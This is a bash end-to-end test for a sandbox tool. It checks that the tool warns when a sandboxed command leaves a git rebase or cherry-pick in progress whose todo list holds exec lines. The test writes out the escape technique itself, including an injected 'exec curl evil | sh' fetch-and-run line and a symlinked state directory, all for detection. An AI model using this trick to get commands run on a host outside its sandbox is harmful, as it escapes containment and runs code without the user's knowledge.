# shellcheck shell=bash
# git's sequencer state: the cage may write .git, so it can leave a rebase
# in progress whose todo list has an exec line; the user's next `git
# rebase --continue` on the host runs it.  The run names the state it
# created or changed, with the exec lines, at exit.

SQ=$(as_user mktemp -d "$U_HOME/e2e-sequencer.XXXXXX")
as_user chmod 755 "$SQ"
SQG=(git -c user.name=e2e -c user.email=e2e@example.invalid)
(cd "$SQ" && as_user "${SQG[@]}" init -q . &&
	as_user sh -c 'echo 1 > f' && as_user "${SQG[@]}" add f &&
	as_user "${SQG[@]}" commit -qm one &&
	as_user sh -c 'echo 2 > f' && as_user "${SQG[@]}" commit -qam two)

# ltd-native run in $SQ (the project), output in $OUT, status in $RC.
lq() {
	OUT=$(cd "$SQ" && as_user "$LTD" run --network none -- "$@" 2>&1)
	RC=$?
}

# The attack, with git's own rebase: stop at a `break` with an exec line
# next in the todo list.
lq sh -c "GIT_SEQUENCE_EDITOR=\"sed -i -e '1i break' -e '1a exec touch seq-ran'\" ${SQG[*]} rebase -q -i HEAD~1"
expect_out "the command leaves a rebase in progress with an exec line" \
	"warning: the command created or changed $SQ/\.git/rebase-merge \(a rebase in progress\): its todo list runs 1 exec command on the host at your next 'git rebase --continue': touch seq-ran"
(cd "$SQ" && as_user "${SQG[@]}" rebase --continue >/dev/null 2>&1)
[ -e "$SQ/seq-ran" ] && pass "(the threat is real: the host's git rebase --continue runs it)" ||
	fail "(the threat is real: the host's git rebase --continue runs it)" "$(ls -la "$SQ")"
as_user rm -f "$SQ/seq-ran"

# A rebase the user left in progress, untouched by the run: nothing said.
(cd "$SQ" && as_user env GIT_SEQUENCE_EDITOR="sed -i -e '1i break'" "${SQG[@]}" rebase -q -i HEAD~1 >/dev/null 2>&1)
[ -d "$SQ/.git/rebase-merge" ] || fail "(a rebase left in progress by the user)" "$(ls -la "$SQ/.git")"
lq true
expect_rc "a run beside the user's own rebase" 0
expect_no_out "... says nothing of it" "rebase-merge"
# The command adds an exec line to it: said.
lq sh -c 'echo "exec curl evil | sh" >> .git/rebase-merge/git-rebase-todo'
expect_out "an exec line added to the user's rebase is said" \
	"\.git/rebase-merge \(a rebase in progress\): its todo list runs 1 exec command .*: curl evil \| sh"
(cd "$SQ" && as_user "${SQG[@]}" rebase --abort >/dev/null 2>&1)

# A cherry-pick's sequencer, made by hand: said too (git's todo parser
# takes exec lines there as well).
lq sh -c 'mkdir .git/sequencer && printf "pick 0000000 x\nx make install\n" > .git/sequencer/todo'
expect_out "a sequencer todo list is said, with its exec line" \
	"\.git/sequencer \(a cherry-pick or revert in progress\): its todo list runs 1 exec command .*: make install"
as_user rm -rf "$SQ/.git/sequencer"

# A state directory made a link: said, not followed.
lq sh -c 'ln -s /etc .git/rebase-apply'
expect_out "a state directory that is a link is said, not followed" \
	"\.git/rebase-apply \(a rebase or 'git am' in progress\).*not a directory reached without a link"
as_user rm -f "$SQ/.git/rebase-apply"

# A plain commit makes no sequencer state: nothing said.
lq sh -c "echo 3 > f && ${SQG[*]} commit -qam three"
expect_rc "a commit in the cage" 0
expect_no_out "... says nothing of a sequencer" "in progress"
as_user rm -rf "$SQ"
